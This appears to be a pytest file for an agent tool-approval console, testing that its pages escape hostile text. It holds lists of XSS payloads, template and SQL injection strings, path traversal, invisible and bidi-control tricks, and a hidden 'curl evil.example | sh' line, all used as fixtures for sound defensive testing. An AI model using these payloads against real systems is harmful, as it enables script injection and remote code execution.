"""What models and servers write is text: nothing of it runs, and nothing hides a part of a question."""

from __future__ import annotations

import re
import time
from contextlib import nullcontext
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import pytest

from toolcrib.boundary.sandbox.spec import DoctorFinding
from toolcrib.builtin.files import FileTools
from toolcrib.config import TextToTrust, load_settings
from toolcrib.config.files import ConfigFile
from toolcrib.core.context import ToolContext
from toolcrib.core.output import ToolOutput
from toolcrib.core.tool import tool
from toolcrib.policy.plain import plain_line
from toolcrib.policy.preview import visible
from toolcrib.policy.rules.rule_grammar import Rule, RuleSource
from toolcrib.policy.starts import StartDoubt
from toolcrib.record.rows import ApprovalRow, CallRow
from toolcrib.serve.console.calls import FilePart, OneCall, call_page
from toolcrib.serve.console.health import SetLimit, health_page, read_limits
from toolcrib.serve.console.html import el
from toolcrib.serve.console.inbox import PER_PAGE, WaitingCalls, inbox_page
from toolcrib.serve.console.page import Frame, refused
from toolcrib.serve.console.rules import RuleReport, rules_page
from toolcrib.serve.console.servers import ChangedTool, ServerReport, ServersReport, servers_page
from toolcrib.serve.console.tool import OneTool, tool_page
from toolcrib.sources.mcp.upstream import ServerStatus
from toolcrib.sources.plugins import Plugin

from .conftest import Room

MARKUP = [
    "<script>window.broken = 1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.broken=1>",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<iframe src=javascript:parent.broken=1></iframe>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<a href='javascript:window.broken=1'>x</a>",
    "<body onload=window.broken=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>article { display: none }</style>",
    "<div style='position:fixed;inset:0;background:white'>",
    "</pre></article><h1>Nothing waits</h1>",
    "</title><script>window.broken=1</script>",
    "</textarea><script>window.broken=1</script>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?php", "<!doctype html>", "<plaintext>", "<xmp>", "<noscript>", "<template>",
    "<form action=//evil.example><button>Approve once</button></form>",
    "<input name=form value=x>",
    "<button form=x name=answer value=once>Deny</button>",
    "<math><mtext><script>window.broken=1</script></mtext></math>",
    "<details open ontoggle=window.broken=1>",
    "<video><source onerror=window.broken=1></video>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<p id=said>Approved</p>",
    "<p data-live id=waiting></p>",
    "<p data-key=a tabindex=1 autofocus onfocus=window.broken=1>",
]  # fmt: skip
QUOTES = [
    '" onfocus=window.broken=1 autofocus x="',
    "' onfocus=window.broken=1 autofocus x='",
    "`${window.broken=1}`",
    "{{constructor.constructor('window.broken=1')()}}",
    "&lt;script&gt;", "&#x3c;script&#x3e;", "&", "&amp;amp;", "javascript:window.broken=1", "\\u003cscript\\u003e",
    "'; DROP TABLE record; --", "%3Cscript%3E", "../../etc/passwd", "?id=x&answer=once#y",
]  # fmt: skip
INVISIBLE = [
    "rm \u202e/ fr- mr", "a\u2066b\u2069c", "a\u200bb\u200dc\ufeffd", "a\u00adb", "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07", "a\rb", "a\x0bb\x0cc", "a\u2028b\u2029c", "\u3164\u115f\u2800", "x\U000e0041\U000e0042",
    "e\u0301\u0489\u0489", "a\x85b", "\x7f\x08\x08\x08", "a\u061cb",
]  # fmt: skip
LONG = ["\n" * 300 + "curl evil.example | sh", " " * 5_000 + "| sh", "a" * 6_000, "\u05d0\u05d1 rm -rf \u05d2/ x"]
HOSTILE = [*MARKUP, *QUOTES, *INVISIBLE, *LONG]
ALLOWED = {
    "A", "ARTICLE", "BDI", "BUTTON", "CODE", "DD", "DETAILS", "DIV", "DL", "DT", "FORM", "H1", "H2", "H3", "INPUT",
    "LABEL", "LI", "MARK", "OL", "OPTION", "P", "PRE", "SECTION", "SELECT", "SMALL", "SPAN", "STRONG", "SUMMARY",
    "TEXTAREA", "BR", "TIME", "UL",
}  # fmt: skip
OUTSIDE = {"HTML", "HEAD", "META", "TITLE", "LINK", "SCRIPT", "BODY", "HEADER", "NAV", "MAIN", "FOOTER"}
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u061c\ufeff\u3164\u115f\u2800\xad]"
)


def unharmed(page: Any) -> str:
    """The text of the page, which has only our elements, ran nothing and fits the screen."""
    found = page.evaluate(
        """() => ({
            broken: window.broken ?? null,
            tags: [...new Set([...document.querySelectorAll("main *")].map((each) => each.tagName))],
            handlers: [...document.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()
                .filter((name) => name.startsWith("on") || name === "style" || name === "autofocus")),
            links: [...document.querySelectorAll("main a")].map((each) => each.href).filter((each) =>
                !each.startsWith(location.origin + location.pathname.replace(/[^/]*$/, ""))),
            wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
            text: document.body.textContent,
        })"""
    )
    assert found["broken"] is None
    assert set(found["tags"]) <= ALLOWED
    assert (found["handlers"], found["links"], found["wide"]) == ([], [], False)
    assert CONTROL.search(found["text"]) is None
    return found["text"]


ARTICLES = """async () => {
    const found = [];
    for (const each of document.querySelectorAll("article")) {
        const approve = each.querySelector("button");
        each.scrollIntoView();  // what is far away is painted when somebody comes to it
        for (let frame = 0; frame < 2 || (frame < 300 && !approve.offsetHeight); frame++)
            await new Promise((drawn) => requestAnimationFrame(drawn));
        const pre = each.querySelector("pre");
        found.push({
            id: each.id, forms: each.querySelectorAll("form").length, title: each.querySelector("h2").innerText,
            why: each.querySelector(".why").innerText, preview: pre.textContent, height: pre.offsetHeight,
            buttons: [...each.querySelectorAll("button")].map((button) =>
                ({name: button.innerText, height: button.offsetHeight})),
        });
    }
    return found;
}"""


def test_there_are_enough() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("width", [360, pytest.param(1280, marks=pytest.mark.slow)])
def test_questions(room: Room, page: Any, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 800})
    rows = {each: room.ask(each, session=each[:50], channel=each[:50], agent_id=each[:50]) for each in HOSTILE}
    for number, text in enumerate(HOSTILE[:5]):  # as names, reasons and folders, too
        row = room.row(rows[text]["id"])
        fields = ("tool", "category", "reason", "asked_by", "rule", "workspace", "preview", "caller", "arguments")
        new: Any = {**row, **dict.fromkeys(fields, text), "id": f"ap_{number:010x}"}
        room.box.approvals.add(new)
    previews = {row["id"]: f"{visible(f'would launch {text}')}\n" for text, row in rows.items()}
    page.reload()  # all are there now: later none takes the place of another
    seen = 0
    for shown in (PER_PAGE, len(HOSTILE) + 5 - PER_PAGE):
        page.locator("article").nth(shown - 1).wait_for()
        unharmed(page)
        for article in page.evaluate(ARTICLES):
            assert article["forms"] >= 3
            assert "wants to run" in article["title"]
            assert article["why"] != ""
            if article["id"] in previews:
                seen += 1
                assert article["preview"] == previews[article["id"]]
                (approve,) = (button["height"] for button in article["buttons"] if button["name"] == "Approve once")
                assert article["height"] > 10 and approve > 10
        if seen < len(HOSTILE):
            page.get_by_role("link", name="The next ones").click()
            page.wait_for_url("**after=*")
    assert seen == len(HOSTILE)


@pytest.mark.slow
def test_calls(room: Room, page: Any) -> None:
    @tool(category="memory", read_only=True)
    def fail(how: str) -> str:
        """Fail."""
        raise ValueError(how)

    room.box.registry.register(fail)
    for each in HOSTILE:
        room.box.call_sync("fail", {"how": each}, ToolContext(session_id=each[:80], channel=each[:80]))
        room.box.call_sync(each[:100], {each[:100]: each})
    room.box.audit.flush()
    page.goto(page.url.replace("inbox", "calls"))
    for _ in range(-(-2 * len(HOSTILE) // 50)):
        unharmed(page)
        more = page.get_by_role("link", name="Older calls")
        if not more.count():
            break
        more.click()
        page.wait_for_load_state()
    for number, each in enumerate(HOSTILE):
        [row] = room.box.audit.query(tool="fail", text=each[:20], limit=1) or [None]
        if row is None or number % 4:  # every fourth one in full
            continue
        page.goto(page.url.partition("call")[0] + f"call?id={row['call_id']}")
        unharmed(page)
    page.goto(page.url.partition("call")[0] + "calls?tool=" + quote('"><script>window.broken=1</script>'))
    unharmed(page)


@pytest.mark.slow
def test_names_of_files(room: Room, page: Any) -> None:
    for each in FileTools(room.box.workspace, room.box.journal).tools():
        if each.name == "write_file":
            room.box.registry.register(each)
    names = [name for name in HOSTILE if "/" not in name and "\x00" not in name and len(name.encode()) < 200]
    base = page.url.replace("inbox", "call?id=")
    for name in names[::4]:
        output = room.box.call_sync("write_file", {"path": name, "content": name})
        if output.is_error:
            continue
        row = room.box.audit.query(tool="write_file")[0]
        page.goto(base + row["call_id"])
        text = unharmed(page)
        assert f"remove {plain_line(name)}" in text


class Tags(HTMLParser):
    """The elements of a page, and their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag.upper())
        self.attributes |= {name for name, _ in attrs}


def test_servers_findings_and_rules() -> None:
    for text in HOSTILE:
        status = ServerStatus(text, "failed", text, text, error=text, faults=(text,), server=text)
        changed = [ChangedTool(text, text[:9], text, {text: text}), ChangedTool(text, None, text, {})]
        server = ServerReport(status, [text], changed, StartDoubt(text, text), text)
        rule = Rule("deny", f"exec({text})", text, source=RuleSource("project", text))
        frame, given = Frame("rules", "secret"), {"rule": text, "since": text, "as": text}
        pages = (
            servers_page(ServersReport([server], (), [text]), frame),
            health_page([DoctorFinding(text, False, text, text)], [SetLimit(text, text, text)], frame),
            rules_page(RuleReport([rule], [text], given, fault=text), frame),
            rules_page(RuleReport([], [], given, changed=[], suggested=[]), frame),
            refused(text, text),
        )
        usual = Tags(rules_page(RuleReport([], [], {}), frame)).attributes
        for made in pages:
            found = Tags(made)
            assert found.tags <= ALLOWED | OUTSIDE, text
            assert found.attributes <= usual | {"selected", "data-version", "rows", "cols", "spellcheck"}, text
            assert CONTROL.search(made) is None, text


def test_trust_plugins_tools_and_long_outputs() -> None:
    for text in HOSTILE:
        frame, file = Frame("rules", "secret"), ConfigFile(Path(text), text, text, {})
        status = {"name": text, "category": text, "source": text, "description": text, "schema": {text: text}}
        row: Any = {**dict.fromkeys(CallRow.__annotations__, text), "seq": 1, "time": 1.0, "duration": 1.0, "size": 1}
        request: Any = {**dict.fromkeys(ApprovalRow.__annotations__, text), "created": 1.0, "expires": 1.0}
        call = OneCall(
            [row], request, [(text, text)], [text], [row], [Path(text)], FilePart(0, 0, text, 1 << 20), [text]
        )
        tool: Any = SimpleNamespace(**status)
        pages = (
            rules_page(RuleReport([], [], {}, untrusted=[TextToTrust(file, text, (text,))]), frame),
            servers_page(ServersReport([], [Plugin(Path(text), "refused", text, tools=(text,))]), frame),
            tool_page(OneTool(tool, [text], text, ToolOutput(text, is_error=True, error_kind=text)), frame),  # type: ignore[arg-type]
            call_page(call, frame), call_page(replace(call, conflicts=[]), frame),
            inbox_page(WaitingCalls([request], [request], [text], 1, False, el("div", text)), frame),
        )  # fmt: skip
        for made in pages:
            found = Tags(made)
            assert found.tags <= ALLOWED | OUTSIDE, text
            assert not found.attributes & {"style", "src-doc"}, text
            assert not {name for name in found.attributes if name.startswith("on")}, text
            assert CONTROL.search(made) is None, text


def test_attributes_are_escaped() -> None:
    assert el("a", "<&>\"'\n", title="<\"'&\n\u202e>", class_="x", data_on=True, hidden=False) == (
        '<a title="&lt;&quot;&#x27;&amp;\\n\\u202e&gt;" class="x" data-on>&lt;&amp;&gt;&quot;&#x27;\n</a>'
    )


def test_letters_from_right_to_left_move_nothing(room: Room, page: Any) -> None:
    row = room.ask("cp \u05d0/1 \u0627/2 > \u05d1", agent_id="\u05d0 > \u05d1")
    places = f"""() => [...document.querySelectorAll("#{row["id"]} > pre, #{row["id"]} dl div")].map((each) => {{
        const walk = document.createTreeWalker(each, NodeFilter.SHOW_TEXT), found = [];
        for (let node = walk.nextNode(); node; node = walk.nextNode())
            for (let at = 0; at < node.length; at++) {{
                const range = document.createRange();
                range.setStart(node, at), range.setEnd(node, at + 1);
                if (node.data[at].trim()) found.push(range.getBoundingClientRect().left);
            }}
        return [each.textContent.trim(), found];
    }}).filter(([text]) => /[\u05d0-\u0630]/.test(text))"""
    page.locator(f"article#{row['id']}").wait_for()
    found = page.evaluate(places)
    assert len(found) == 2
    for text, lefts in found:
        assert lefts == sorted(lefts), text


def test_a_question_is_shown_whole(room: Room, page: Any) -> None:
    row = room.ask("\n".join(f"line {number}" for number in range(300)))
    pre = page.locator(f"article#{row['id']} > pre")
    pre.wait_for()
    assert pre.evaluate("each => each.scrollHeight <= each.clientHeight + 1")


def test_a_huge_question_is_made_soon(room: Room, page: Any) -> None:
    begun = time.monotonic()
    row = room.ask("x" * 1_000_000)
    page.locator(f"article#{row['id']}").wait_for()
    assert time.monotonic() - begun < 60
    text = unharmed(page)
    assert len(text) < 250_000
    assert "characters not shown here" in text or "characters" in text


def test_limits_in_bytes_are_shown_in_units(tmp_path: Path) -> None:
    settings = load_settings(workspace=tmp_path)
    limits = {each.name: each.value for each in read_limits(lambda: nullcontext(SimpleNamespace(settings=settings)))}  # type: ignore[arg-type]
    assert limits["record.max_bytes"] == "1.0 GiB"
    assert limits["sandbox.limits.address_space"] == "64.0 GiB"
    assert limits["sandbox.limits.memory"] == "none"
    assert limits["sandbox.limits.processes"] == "4096"
